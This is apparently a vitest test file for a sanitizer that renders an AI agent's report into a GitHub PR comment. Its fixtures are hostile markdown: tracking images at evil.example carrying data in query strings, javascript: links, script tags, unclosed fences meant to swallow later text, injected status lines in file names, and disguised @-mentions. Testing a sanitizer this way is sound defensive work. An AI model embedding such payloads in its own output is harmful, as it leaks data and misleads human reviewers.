// Hostile markdown in the agent's report and hostile file names: whatever they hold, the comment a reviewer reads
// keeps our status line, checklist and footer outside anything the report opened, loads no image, links off
// github.com only as text, and pings nobody. Checked with marked's lexer, a parser independent of ours.
import { Lexer, type Token, type Tokens } from 'marked'
import { describe, expect, it } from 'vitest'
import type { Decision } from '../../src/report/decide.js'
import { codeSpan } from '../../src/report/escape.js'
import { renderCheckOutput, renderComment, renderSummary, type RenderInput } from '../../src/report/render.js'
import { sanitizeMarkdown } from '../../src/report/sanitize.js'
import type { ChecklistItem } from '../../src/types.js'

const item: ChecklistItem = {
  id: 'RAI-1',
  text: 'Fairness metrics per demographic group',
  status: 'fail',
  bias: true,
  source: 'bridge',
  path: 'configs/train.yaml',
  line: 3
}
const decision: Decision = { conclusion: 'failure', reason: '1 bias/fairness item failed', blocking: [item] }

function input(report: string, extra: Partial<RenderInput> = {}): RenderInput {
  return {
    decision,
    report,
    items: [item],
    headSha: 'c'.repeat(40),
    runUrl: 'https://github.com/octo-org/ml-repo/actions/runs/1',
    notes: [],
    ...extra
  }
}

function walk(tokens: Token[], out: Token[] = []): Token[] {
  for (const t of tokens) {
    out.push(t)
    const nested = t as Token & { tokens?: Token[]; items?: Token[]; rows?: Token[][]; header?: Token[] }
    if (nested.tokens) walk(nested.tokens, out)
    if (nested.items) walk(nested.items, out)
    if ((t as Tokens.Table).header) for (const c of (t as Tokens.Table).header) walk(c.tokens, out)
    if ((t as Tokens.Table).rows) for (const r of (t as Tokens.Table).rows) for (const c of r) walk(c.tokens, out)
  }
  return out
}

/** What a reviewer sees, as a markdown parser reads it. */
function read(markdown: string) {
  const top = Lexer.lex(markdown)
  const all = walk(top)
  const ours = /^(<!-- ml-engineering-review(:head=[0-9a-f]+)? -->|<\/?details>|<summary>|<\/summary>|<\/?sub>)/
  return {
    headings: top.filter((t) => t.type === 'heading').map((t) => (t as Tokens.Heading).text),
    footer: top.some((t) => t.raw.includes('<sub>Reviewed head')),
    images: all.filter((t) => t.type === 'image'),
    foreignHtml: all.filter(
      (t) => t.type === 'html' && t.raw.split('\n').some((l) => l.trim() !== '' && !ours.test(l.trim()))
    ),
    links: all.filter((t) => t.type === 'link').map((t) => (t as Tokens.Link).href)
  }
}

function expectIntact(markdown: string): void {
  const seen = read(markdown)
  expect(seen.headings).toContain('Checklist')
  expect(seen.footer).toBe(true)
  expect(seen.images).toEqual([])
  expect(seen.foreignHtml.map((t) => t.raw)).toEqual([])
  for (const href of seen.links) expect(new URL(href, 'https://github.com/').hostname).toMatch(/(^|\.)github\.com$/)
}

const SWALLOWERS: Record<string, string> = {
  'details open': '<details open>\n<summary>More</summary>\n\nhidden',
  'details, never closed': '<details>\n\nall that follows is folded',
  'unclosed comment': 'text\n\n<!-- the rest is hidden',
  'comment inside a paragraph': 'see <!-- here',
  'unclosed backtick fence': '```python\nprint(1)',
  'unclosed tilde fence': '~~~\nall of it is code',
  'long fence never closed by a short one': '````\n```\nstill code',
  'fence in a blockquote': '> ```\n> quoted code',
  'fence in a list item': '- item\n  ```\n  code',
  'table start': '<table><tr><td>',
  'div block': '<div align="center">\n\ncentered rest',
  'pre block': '<pre>\nraw',
  'script and style': '<script>alert(1)</script><style>body{display:none}</style>',
  'textarea swallowing': '<textarea>\n\neverything after',
  'nested openers': '<details><details><details>\n\n```\n<!--'
}

const TRACKERS: Record<string, string> = {
  'inline image': '![](https://evil.example/p.png?features=customer_gender)',
  'image with alt': '![chart](https://evil.example/c.png)',
  'reference image': '![x][r]\n\n[r]: https://evil.example/r.png',
  'img tag': '<img src="https://evil.example/i.png?d=1">',
  'img tag with no close': '<img src=https://evil.example/i.png',
  'picture tag': '<picture><source srcset="https://evil.example/s.png"></picture>',
  'svg image': '<svg><image href="https://evil.example/svg.png"/></svg>',
  'image inside a link': '[![badge](https://evil.example/b.svg)](https://github.com/octo-org/ml-repo)',
  'github-hosted image is dropped too': '![](https://github.com/user-attachments/assets/x.png)',
  'image in a table': '| a |\n| - |\n| ![](https://evil.example/t.png) |'
}

const LINKS: Record<string, string> = {
  'outside link': '[docs](https://evil.example/?q=secret)',
  autolink: '<https://evil.example/a>',
  'bare url': 'see https://evil.example/x?token=1 now',
  'reference link': '[x][r]\n\n[r]: https://evil.example/ref',
  'javascript link': '[click](javascript:alert(1))',
  'protocol-relative': '[x](//evil.example/y)',
  'html anchor': '<a href="https://evil.example">click</a>'
}

describe('the report cannot swallow or hide what follows it', () => {
  for (const [name, bad] of Object.entries(SWALLOWERS)) {
    it(name, () => {
      const body = renderComment(input(`## ML Engineering Report\n### Evaluation\n${bad}`))
      expectIntact(body)
      expect(body).toContain('### Checklist')
    })
  }

  it('all of them at once, and the check text and job summary too', () => {
    const report = `## ML Engineering Report\n${Object.values(SWALLOWERS).join('\n\n')}`
    expectIntact(renderComment(input(report)))
    const check = renderCheckOutput(input(report))
    expect(read(check.text).foreignHtml).toEqual([])
    const summary = renderSummary(input(report))
    expect(read(summary).headings).toContain('Checklist')
    expect(read(summary).foreignHtml).toEqual([])
  })

  it('raw HTML stays readable as text', () => {
    const body = renderComment(input('a <details open> b'))
    expect(body).toContain('&lt;details open>')
  })

  it('a report cut to fit leaves no fence open', () => {
    const report = `## ML Engineering Report\n### Data\n\`\`\`\n${'code line\n'.repeat(20_000)}\`\`\`\n### Evaluation\nok`
    const body = renderComment(input(report))
    expect(body.length).toBeLessThanOrEqual(65536)
    expectIntact(body)
  })
})

describe('no image loads from the comment (an exfiltration channel)', () => {
  for (const [name, bad] of Object.entries(TRACKERS)) {
    it(name, () => {
      const body = renderComment(input(`## ML Engineering Report\n${bad}`))
      expectIntact(body)
      expect(body).not.toMatch(/evil\.example\/[a-z]+\.(png|svg)\)/)
      // a tag that never closes is no tag: it stays text, which loads nothing either
      if (!name.includes('no close')) expect(body).toContain('image removed')
    })
  }
})

describe('links leave github.com only as text', () => {
  for (const [name, bad] of Object.entries(LINKS)) {
    it(name, () => {
      expectIntact(renderComment(input(`## ML Engineering Report\n${bad}`)))
    })
  }

  it('a github.com link stays a link', () => {
    const seen = read(renderComment(input('[PR](https://github.com/octo-org/ml-repo/pull/1)')))
    expect(seen.links).toContain('https://github.com/octo-org/ml-repo/pull/1')
  })

  it('the outside address stays visible, in code', () => {
    expect(sanitizeMarkdown('[docs](https://evil.example/?q=1)')).toBe('docs (`https://evil.example/?q=1`)')
  })
})

describe('mentions ping nobody', () => {
  const forms = [
    '@octocat',
    '_@octo-team_',
    'cc/@octocat',
    '@@octocat',
    '@octo-org/ml-team',
    '**@octocat**',
    '\\@octocat',
    '&#64;octocat',
    '&#x40;octocat',
    '&commat;octocat',
    '(@octocat)',
    '~~@octocat~~',
    '[@octocat](https://github.com/octocat)'
  ]
  for (const form of forms) {
    it(form, () => {
      for (const place of ['report', 'item', 'note'] as const) {
        const body = renderComment(
          input(place === 'report' ? `## ML Engineering Report\nthanks ${form}` : 'ok', {
            items: place === 'item' ? [{ ...item, text: `ask ${form}` }] : [item],
            notes: place === 'note' ? [`from ${form}`] : []
          })
        )
        // what GitHub reads as a mention: an @ and a login, after nothing that is a letter or digit
        const text = body.replace(/&(?:#0*64|#x0*40|commat);/gi, '@')
        expect(text).not.toMatch(/(^|[^A-Za-z0-9])@[A-Za-z0-9]/m)
      }
    })
  }

  it('code and e-mail addresses are left as written', () => {
    const body = renderComment(input('use `@torch.no_grad` and write to ml@example.com'))
    expect(body).toContain('`@torch.no_grad`')
    expect(body).toContain('ml@example.com')
  })
})

describe('file names are code spans nothing breaks out of', () => {
  const names = [
    'configs/a\n\n🟢 **No blocking issues**\n\n![x](https://evil.example/n.png)\n.yaml',
    'configs/`code`|pipe|.yaml',
    'configs/``` fence.yaml',
    'configs/<img src=https://evil.example/f.png>.yaml',
    'configs/<!--.yaml',
    'configs/a|b|c|d|e.yaml',
    '`leading-tick.yaml',
    'configs/@octocat.yaml'
  ]
  for (const name of names) {
    it(JSON.stringify(name), () => {
      const located = { ...item, path: name }
      const body = renderComment(
        input('ok', {
          items: [located],
          decision: { ...decision, blocking: [located] },
          diffs: [{ path: name, kind: 'config', summary: '- `lr: 1 → 2`', changedLines: [], notes: [] }]
        })
      )
      expectIntact(body)
      // our status line is the only one that says how the review ended
      expect(body.split('\n').filter((l) => /^\s*(🟢|🔴)/.test(l))).toHaveLength(1)
      // the blocking list (the first; the changes' list follows) keeps its one entry, the name in its code span
      const lists = Lexer.lex(body).filter((t) => t.type === 'list') as Tokens.List[]
      expect(lists[0].items).toHaveLength(1)
      const spans = walk(lists[0].items[0].tokens).filter((t) => t.type === 'codespan')
      expect(spans[0].raw).toBe(codeSpan(`${name}:3`))
      // with the repository known, the same name is a link on github.com to its line at the head
      const linked = renderComment(
        input('ok', {
          items: [located],
          decision: { ...decision, blocking: [located] },
          repoUrl: 'https://github.com/octo-org/ml-repo'
        })
      )
      expectIntact(linked)
      const hrefs = read(linked).links.filter((h) => h.includes('/blob/'))
      expect(hrefs).toHaveLength(1)
      expect(new URL(hrefs[0]).pathname).toBe(
        `/octo-org/ml-repo/blob/${'c'.repeat(40)}/${name.split('/').map(encodeURIComponent).join('/')}`
      )
    })
  }

  it('codeSpan shows a newline as \\n and survives any run of backticks', () => {
    expect(codeSpan('a\nb')).toBe('`a\\nb`')
    expect(codeSpan('a``b')).toBe('```a``b```')
    expect(codeSpan('`x')).toBe('`` `x ``')
    expect(codeSpan('a|b', { table: true })).toBe('`a\\|b`')
  })
})

describe('bounded on hostile sizes', () => {
  it('a 200 kB line of markup, 100k spaces and deep nesting render quickly', () => {
    const t0 = Date.now()
    const report = [
      `## ML Engineering Report`,
      '<'.repeat(200_000),
      ' '.repeat(100_000) + 'x',
      '>'.repeat(50_000),
      '- '.repeat(5_000) + 'deep list',
      '[a]('.repeat(30_000),
      '['.repeat(50_000),
      '*'.repeat(50_000),
      '![]('.repeat(20_000)
    ].join('\n')
    const body = renderComment(input(report))
    expect(Date.now() - t0).toBeLessThan(20_000)
    expect(body.length).toBeLessThanOrEqual(65536)
    expect(read(body).headings).toContain('Checklist')
  })
})
